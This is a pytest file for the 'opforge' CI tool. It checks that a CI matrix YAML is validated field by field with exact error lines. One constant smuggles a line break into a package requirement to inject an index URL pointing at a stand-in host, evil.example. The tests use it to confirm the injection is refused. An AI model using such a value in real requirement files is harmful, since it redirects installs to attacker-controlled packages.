"""ci/matrix.yaml as untrusted input: every field type-checked, every requirement one PEP 508
line, each problem one error line naming the file, the field and the form expected."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from opforge.ci.matrix import load_matrix
from opforge.errors import ConfigError
from tests.conftest import run_opforge

REPO = Path(__file__).resolve().parent.parent
VERSIONS = REPO / "images" / "versions.yaml"
# Written into a double-quoted YAML string, whose `\n` escape parses to a line break.
EVIL = "torch==2.13.0\\n--index-url http://evil.example/simple"
MATRIX_HINT = (
    "  hint: ci/README.md describes the matrix file; compare with the one in the repository"
)


def _project(tmp_path: Path) -> Path:
    """The files `opforge ci` reads, copied: matrix, image versions, workflow, pins."""
    root = tmp_path / "project"
    for name in ("ci", "images", ".github"):
        shutil.copytree(REPO / name, root / name)
    shutil.copy(REPO / "checksums.yaml", root / "checksums.yaml")
    return root


@pytest.mark.parametrize(
    ("field", "entry"),
    [
        ("frameworks[1].requirement", f'  - requirement: "{EVIL}"'),
        (
            "frameworks[1].with[0]",
            f'  - requirement: "torch==2.13.0"\n    with: ["{EVIL}"]',
        ),
    ],
)
def test_a_requirement_with_a_line_break_is_refused_by_every_ci_command(tmp_path, field, entry):
    root = _project(tmp_path)
    matrix = root / "ci" / "matrix.yaml"
    text = matrix.read_text()
    matrix.write_text(text.replace('  - requirement: "torch==2.13.0"', entry, 1))
    workflow = (root / ".github" / "workflows" / "nightly.yml").read_bytes()
    cell = "cuda13.0-cudnn9.13-torch2.13.0"
    for command in (["list"], ["render"], ["run-cell", cell, "--dry-run"]):
        result = run_opforge("ci", *command, cwd=root)
        assert result.returncode == 1 and result.stdout == "", command
        assert result.stderr.splitlines() == [
            f"opforge: error: {matrix}: {field}: 'torch==2.13.0\\n--index-url "
            "http://evil.example/simple' contains a line break or control character",
            "  hint: give one PEP 508 requirement per entry, e.g. torch==2.13.0 or 'numpy<2'",
        ], command
    assert (root / ".github" / "workflows" / "nightly.yml").read_bytes() == workflow


BASE = 'cuda: {"13.0": ["9.13"]}\nframeworks: [{requirement: "torch==2.13.0"}]\n'


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            BASE + "runner: 5\n",
            "runner: expected a non-empty list of runner labels, e.g. [self-hosted, gpu], got 5",
        ),
        (
            BASE + "runner: gpu\n",
            "runner: expected a non-empty list of runner labels, e.g. [self-hosted, gpu], "
            "got 'gpu'",
        ),
        (
            BASE + 'runner: ["gpu\\nx"]\n',
            "runner[0]: expected a runner label (printable ASCII, no spaces), e.g. gpu, "
            "got 'gpu\\nx'",
        ),
        (
            BASE + "exclude: 5\n",
            "exclude: expected a list of {match: ..., reason: ...} entries, got 5",
        ),
        (
            'cuda: {"13.0": ["9.13"]}\nframeworks: [{requirement: "torch==2.13.0", with: 5}]\n',
            'frameworks[0].with: expected a list of requirements, e.g. ["numpy<2"], got 5',
        ),
        (
            'cuda: {"13.0": ["9.13"]}\nframeworks: [{requirement: "torch==2.13.0", '
            'with: "numpy<2"}]\n',
            'frameworks[0].with: expected a list of requirements, e.g. ["numpy<2"], '
            "got 'numpy<2'",
        ),
        (
            BASE + "exclude: [{match: {1: x, zz: y}, reason: r}]\n",
            "exclude[0].match.1: the key must be an axis (cuda, cudnn, framework)",
        ),
        (
            BASE + 'exclude: [{match: {cuda: "13.0"}, reason: " "}]\n',
            "exclude[0].reason: expected a reason saying why the cells cannot run, got ' '",
        ),
        (
            BASE + "exclude: [{match: {cuda: 13.0}, reason: r}]\n",
            "exclude[0].match.cuda: expected a quoted value or a non-empty list of them, e.g. "
            '"12.4" or ["12.4", "13.0"], got 13.0',
        ),
        (
            'cuda: {"11.8": ["8.9", "8.9"]}\nframeworks: [{requirement: none}]\n',
            "cuda.11.8: '8.9' is listed twice",
        ),
        (
            'cuda: {"11.8": [8.9, 9.1, 9.10]}\nframeworks: [{requirement: none}]\n',
            "cuda.11.8: 9.1 is listed twice (YAML reads unquoted 9.10 as 9.1: quote versions)",
        ),
        (
            'cuda: {"13.0": [9.10]}\nframeworks: [{requirement: none}]\n',
            'cuda.13.0[0]: expected a cuDNN version in quotes, e.g. "9.10", got 9.1',
        ),
        (
            'cuda: {13.0: ["9.13"]}\nframeworks: [{requirement: none}]\n',
            'cuda.13.0: the key must be a CUDA version in quotes, e.g. "13.0"',
        ),
        (
            BASE + "exlude: []\n",
            "exlude: unknown key (allowed here: ci_cell, cuda, exclude, frameworks, runner)",
        ),
        (
            'cuda: {"13.0": ["9.13"]}\nframeworks: [{with: []}]\n',
            "frameworks[0].requirement: required key is missing",
        ),
        (
            "[1, 2]\n",
            "(top level): expected a mapping with `cuda:` and `frameworks:` (and optionally "
            "`runner:`, `exclude:`, `ci_cell:`), got [1, 2]",
        ),
    ],
)
def test_a_malformed_field_is_named_with_the_form_it_takes(tmp_path, body, message):
    path = tmp_path / "matrix.yaml"
    path.write_text(body)
    with pytest.raises(ConfigError, match=f"^{re.escape(f'{path}: {message}')}$"):
        load_matrix(path, VERSIONS)


def test_a_malformed_field_is_one_error_line_from_the_cli(tmp_path):
    root = _project(tmp_path)
    matrix = root / "ci" / "matrix.yaml"
    matrix.write_text(
        matrix.read_text().replace("runner: [self-hosted, linux, x64, gpu]", "runner: 5")
    )
    result = run_opforge("ci", "list", cwd=root)
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.splitlines() == [
        f"opforge: error: {matrix}: runner: expected a non-empty list of runner labels, "
        "e.g. [self-hosted, gpu], got 5",
        MATRIX_HINT,
    ]


@pytest.mark.parametrize(
    ("frameworks", "message", "hint"),
    [
        (
            '[{requirement: "torch==2.13.0"}, {requirement: "torch>=2.13.0"}]',
            "frameworks[1].requirement: 'torch>=2.13.0' gives the same cell ids as "
            "frameworks[0] (torch2.13.0)",
            "list each framework once",
        ),
        (
            '[{requirement: none, with: ["numpy<2"]}]',
            "frameworks[0].with: 'none' (no framework) installs nothing with it",
            "remove `with:`",
        ),
    ],
)
def test_frameworks_that_would_clash_are_refused(tmp_path, frameworks, message, hint):
    path = tmp_path / "matrix.yaml"
    path.write_text(f'cuda: {{"13.0": ["9.13"]}}\nframeworks: {frameworks}\n')
    with pytest.raises(ConfigError, match=f"^{re.escape(f'{path}: {message}')}$") as raised:
        load_matrix(path, VERSIONS)
    assert raised.value.hint.startswith(hint)


def test_optional_keys_given_as_null_count_as_absent(tmp_path):
    path = tmp_path / "matrix.yaml"
    path.write_text(BASE + "runner:\nexclude:\nci_cell:\n")
    matrix = load_matrix(path, VERSIONS)
    assert matrix.runner == ("self-hosted", "gpu") and matrix.ci_cell is None
    assert [c.id for c in matrix.included] == ["cuda13.0-cudnn9.13-torch2.13.0"]
